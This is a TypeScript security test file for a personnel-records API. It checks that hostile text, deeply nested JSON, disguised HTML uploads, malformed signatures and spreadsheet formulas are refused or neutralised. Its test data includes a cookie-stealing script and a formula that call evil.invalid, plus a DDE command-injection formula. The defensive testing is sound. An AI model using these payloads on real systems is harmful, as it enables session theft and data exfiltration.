// The attacker's probe of issue 14, repeated: every hostile input is a clear 4xx (never a 500, never a
// silent acceptance) and leaves the database exactly as it was; downloads and answers carry the security
// headers; CSV cells are neutralised.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearer, createTestApp, type TestApp } from '../../support/app.ts';
import { getTestPki } from '../../support/pki.ts';
import { seedProvince } from '../../../src/commands/seed.ts';
import { SEED_TODAY } from '../../support/database.ts';

let t: TestApp;
let officer: string;
let admin: string;
let person: { personalId: string; profile: object };

const TABLES = ['agency', 'person', 'profile_change', 'change_event', 'attachment', 'approval', 'delegation', 'window_override',
  'signing_session', 'batch', 'transfer_request', 'outbox', 'audit_log'];

/** Row counts and the latest audit row: what any write, even a refused one that slipped through, would move. */
async function snapshot(): Promise<Record<string, string>> {
  const { rows } = await t.database.db.pool.query<Record<string, string>>(
    `SELECT ${TABLES.map((n) => `(SELECT count(*) FROM ${n})::text AS ${n}`).join(', ')},
      (SELECT coalesce(max(seq), 0)::text FROM audit_log) AS audit_head,
      (SELECT coalesce(max(updated_at)::text, '') FROM profile_change) AS changes_updated`);
  return rows[0]!;
}

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]);
const attachment = (name: string, mediaType: string, bytes: Buffer) => ({ name, mediaType, contentBase64: bytes.toString('base64') });

beforeAll(async () => {
  t = await createTestApp({}, { nationalTrust: { trustAnchors: (await getTestPki()).nationalTrustAnchors } });
  await seedProvince(t.database.db, 'H55', { today: SEED_TODAY, count: 20, seed: 7 });
  officer = await t.token('UNIT_OFFICER', 'H55', { subject: 'can-bo' });
  admin = await t.token('ADMIN', 'H55');
  const p = await t.database.db.prisma.person.findFirstOrThrow({ where: { version: { gt: 0 } }, orderBy: { personalId: 'asc' } });
  person = { personalId: p.personalId, profile: p.profile as object };
}, 120_000);
afterAll(async () => t?.close());

const DEEP = `${'{"a":['.repeat(2_500)}1${']}'.repeat(2_500)}`;
const DEEP_MARK = '\u{1F9EA}deep';
// JSON.stringify itself overflows on 5,000 levels: the deep value travels as a marker, spliced in as text.
const post = (url: string, token: string, payload: unknown) =>
  t.app.inject({ method: 'POST', url, headers: { ...bearer(token), 'content-type': 'application/json' },
    payload: JSON.stringify(payload).replace(JSON.stringify(DEEP_MARK), DEEP) });

// Each hostile value, as JSON.stringify sends it (a lone surrogate travels as the escape \ud800).
const HOSTILE: Array<[string, unknown, string]> = [
  ['NUL', 'Lý do\u0000', 'TEXT_INVALID'],
  ['a lone surrogate', 'Lý do \ud800', 'TEXT_INVALID'],
  ['a bidi override', 'Lý do \u202Efdp.exe', 'TEXT_INVALID'],
  ['100 KB of text', 'a'.repeat(100_000), 'TEXT_INVALID'],
  ['an object 5,000 levels deep', DEEP_MARK, 'INPUT_TOO_COMPLEX'],
];

const CHANGE = '00000000-0000-4000-8000-000000000000';
/** Every route that takes free text, with the text field in a body otherwise well-formed. */
const TEXT_FIELDS: Array<[string, string, (v: unknown) => unknown]> = [
  ['return reason', `/api/v1/changes/${CHANGE}/return`, (v) => ({ reason: v })],
  ['verify note', `/api/v1/changes/${CHANGE}/verify`, (v) => ({ reason: v })],
  ['change edit profile', `/api/v1/changes/${CHANGE}`, (v) => ({ profile: { HoVaTen: v } })],
  ['change reason', '/api/v1/persons/{pid}/changes', (v) => ({ profile: { ...person.profile }, reason: v })],
  ['attachment name', '/api/v1/persons/{pid}/changes', (v) => ({ profile: { ...person.profile }, attachments: [{ ...attachment('x.png', 'image/png', PNG), name: v }] })],
  ['profile text', '/api/v1/persons/{pid}/changes', (v) => ({ profile: { ...person.profile, NoiOHienNay: v } })],
  ['status reason', '/api/v1/persons/{pid}/status', (v) => ({ status: 'NGHI_HUU', effectiveDate: '2026-01-01', reason: v })],
  ['pull reason', '/api/v1/transfers/pull', (v) => ({ personalId: '001090000001', toAgencyCode: 'H55.05', reason: v })],
  ['transfer decision', '/api/v1/persons/{pid}/transfer', (v) => ({ toAgencyCode: 'H55.05', effectiveDate: '2026-01-01', decisionNo: v, reason: 'Điều động' })],
  ['window-override reason', '/api/v1/approvals/window-overrides', (v) => ({ agencyCode: 'H55.05', period: '2026-11', reason: v, validUntil: '2026-11-30T00:00:00Z' })],
  ['delegate subject', '/api/v1/approvals/delegations', (v) => ({ agencyCode: 'H55.05', delegateSubject: v, validFrom: '2026-11-01T00:00:00Z', validTo: '2026-12-01T00:00:00Z' })],
  ['agency close reason', '/api/v1/agencies/H55.05/close', (v) => ({ closedOn: '2026-12-01', reason: v })],
  ['agency import name', '/api/v1/agencies/import', (v) => ({ agencies: [{ code: 'H55.77', name: v }] })],
];

describe('every text field of every route', () => {
  it.each(TEXT_FIELDS.flatMap(([field, url, body]) => HOSTILE.map(([what, value, code]) => [field, what, url, body, value, code] as const)))(
    '%s with %s: 4xx with a stable code, nothing written', async (_field, _what, url, body, value, code) => {
      const before = await snapshot();
      const res = await post(url.replace('{pid}', person.personalId), admin, body(value));
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ code, message: expect.any(String) });
      expect(res.body.length).toBeLessThan(2_000); // the hostile value is never echoed back
      expect(await snapshot()).toEqual(before);
    });

  it('path parameters and query strings pass the same rule', async () => {
    const before = await snapshot();
    for (const url of [`/api/v1/persons/${encodeURIComponent('0010\u202E90000001')}`, '/api/v1/changes?agency=H55%00', `/api/v1/audit?entityId=${'x'.repeat(20_000)}`]) {
      const res = await t.app.inject({ method: 'GET', url, headers: bearer(admin) });
      expect(res.statusCode, url).toBe(400);
      expect(res.json().code, url).toBe('TEXT_INVALID');
    }
    expect(await snapshot()).toEqual(before);
  });
});

describe('the probes of the issue', () => {
  it('a profile nested 5,000 levels deep answers 400, not a stack overflow', async () => {
    const before = await snapshot();
    const deep = `{"profile":${DEEP}}`;
    const res = await t.app.inject({ method: 'POST', url: `/api/v1/persons/${person.personalId}/changes`,
      headers: { ...bearer(officer), 'content-type': 'application/json' }, payload: deep });
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ code: 'INPUT_TOO_COMPLEX', details: { limit: 'DEPTH' } });
    expect(await snapshot()).toEqual(before);
  });

  it('HTML bytes declared as image/png or application/pdf are refused with 422, nothing stored', async () => {
    const html = Buffer.from('<!doctype html><script>fetch("http://evil.invalid/"+document.cookie)</script>');
    for (const type of ['image/png', 'application/pdf']) {
      const before = await snapshot();
      const res = await post(`/api/v1/persons/${person.personalId}/changes`, officer,
        { profile: { ...person.profile }, attachments: [attachment('scan.png', type, html)] });
      expect(res.statusCode, type).toBe(422);
      expect(res.json()).toMatchObject({ code: 'ATTACHMENT_INVALID', details: { reason: 'CONTENT_NOT_MEDIA_TYPE', mediaType: type } });
      expect(await snapshot()).toEqual(before);
    }
  });

  it('a real attachment downloads as an attachment with nosniff; a NUL return reason leaves the change as it was', async () => {
    const created = await post(`/api/v1/persons/${person.personalId}/changes`, officer,
      { profile: { ...person.profile, SoDienThoai: '0900000077' }, attachments: [attachment('Quyết định "nâng lương".png', 'image/png', PNG)] });
    expect(created.statusCode).toBe(201);
    const id = created.json().id as string;
    const detail = await t.app.inject({ method: 'GET', url: `/api/v1/changes/${id}`, headers: bearer(officer) });
    const attachmentId = detail.json().attachments[0].id as string;
    const download = await t.app.inject({ method: 'GET', url: `/api/v1/changes/${id}/attachments/${attachmentId}`, headers: bearer(officer) });
    expect(download.statusCode).toBe(200);
    expect(download.headers['x-content-type-options']).toBe('nosniff');
    expect(download.headers['content-disposition']).toMatch(/^attachment; filename="Quyet dinh _nang luong_.png"; filename\*=UTF-8''/);
    expect(download.headers['content-security-policy']).toContain("default-src 'none'");

    const before = await snapshot();
    const refused = await post(`/api/v1/changes/${id}/return`, admin, { reason: 'Thiếu\u0000 giấy tờ' });
    expect(refused.statusCode).toBe(400);
    expect(await snapshot()).toEqual(before);
    expect((await t.database.db.prisma.profileChange.findUniqueOrThrow({ where: { id } })).state).toBe('SUBMITTED');
  });

  it('every API answer, error or not, carries the security headers', async () => {
    for (const res of [
      await t.app.inject({ method: 'GET', url: '/api/v1/agencies/tree', headers: bearer(admin) }),
      await t.app.inject({ method: 'GET', url: '/api/v1/agencies/tree' }),
      await t.app.inject({ method: 'GET', url: '/api/v1/nothing' }),
      await t.app.inject({ method: 'GET', url: '/health' }),
    ]) {
      expect(res.headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY', 'referrer-policy': 'no-referrer' });
      expect(res.headers['content-security-policy']).toBeDefined();
    }
  });

  it('an agency name and profile text written like formulas come out of the headcount CSV as text', async () => {
    const formula = '=HYPERLINK("http://evil.invalid/?leak="&A2,"Xem")';
    const p = await t.database.db.prisma.person.findFirstOrThrow({ where: { version: { gt: 0 }, status: 'DANG_CONG_TAC' }, orderBy: { personalId: 'desc' } });
    const agency = await t.database.db.prisma.agency.findUniqueOrThrow({ where: { code: p.employingAgencyCode } });
    const renamed = await post('/api/v1/agencies/import', admin, { agencies: [{ code: agency.code, name: formula, parentCode: agency.parentCode }] });
    expect(renamed.statusCode).toBe(200);
    // An approved record whose position text is a formula (as an earlier import or the national side may bring).
    await t.database.db.pool.query(`UPDATE person SET profile = jsonb_set(profile, '{ChucVuHienTai}', to_jsonb($2::text)) WHERE personal_id = $1`,
      [p.personalId, '@SUM(1+1)*cmd|" /C calc"!A0']);
    const csv = await t.app.inject({ method: 'GET', url: '/api/v1/reports/headcount?format=csv', headers: bearer(admin) });
    expect(csv.statusCode).toBe(200);
    expect(csv.body).toContain(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A2,""Xem"")"`);
    expect(csv.body).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(csv.body).not.toMatch(/(^|,)"?[=@]/m);
  });

  it('a garbage inbound signature answers a stable reason, never the ASN.1 library’s text', async () => {
    const before = await snapshot();
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/inbound/transfer-requests', payload: {
      requestId: 'req-garbage-1', personalId: person.personalId, fromAgencyCode: 'H01.01', toAgencyCode: 'H55.05', decisionNo: '12/QĐ',
      effectiveDate: '2026-12-01', payload: Buffer.from('{}').toString('base64'), signature: Buffer.from([0x30, 0x82, 0xff, 0xff, 1, 2, 3]).toString('base64'),
    } });
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({ code: 'BAD_SIGNATURE', message: 'Chữ ký số không hợp lệ.',
      details: { reason: 'BAD_SIGNATURE', pki: { reason: 'malformed', what: 'content-info' } } });
    expect(res.body).not.toMatch(/asn1|ASN\.1|block|Object's schema|pkijs|TypeError/i);
    expect(await snapshot()).toEqual(before);
  });
});
